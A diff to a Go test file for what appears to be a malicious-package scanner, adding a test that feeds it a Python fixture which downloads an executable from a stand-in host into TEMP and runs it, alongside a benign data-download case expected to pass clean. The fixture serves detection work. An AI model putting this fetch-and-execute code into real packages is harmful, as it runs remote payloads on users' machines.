@@ -183,3 +183,14 @@ func TestStealerChannel(t *testing.T) {
 		t.Errorf("webhook next to identity collection in runtime code: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestDownloadThenRunSavedFile(t *testing.T) {
+	r := sdist(t, map[string]string{"p/__init__.py": "import os, subprocess, urllib.request\npath = os.path.join(os.getenv('TEMP'), 'u.exe')\nurllib.request.urlretrieve('https://example.invalid/u.exe', path)\nsubprocess.Popen([path], shell=True)\n"})
+	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
+		t.Errorf("%s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"p/data.py": "import urllib.request, json\ndef fetch(path):\n    urllib.request.urlretrieve('https://example.invalid/d.json', path)\n    return json.load(open(path))\n"})
+	if r.Verdict != Clean {
+		t.Errorf("download of data: %s %+v", r.Verdict, r.Findings)
+	}
+}
